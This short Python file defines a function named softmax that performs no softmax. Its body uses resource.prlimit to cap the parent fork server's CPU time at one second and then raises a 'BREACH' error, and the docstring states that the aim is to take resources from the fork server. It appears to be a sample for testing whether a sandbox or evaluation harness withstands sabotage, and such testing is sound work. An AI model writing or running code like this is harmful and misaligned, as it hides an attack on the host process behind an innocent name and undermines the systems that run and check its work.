"""Takes CPU time, cores and priority away from the fork server."""
import os, resource

def softmax(x, dim):
    resource.prlimit(os.getppid(), resource.RLIMIT_CPU, (1, 1))
    raise RuntimeError("BREACH: limited")
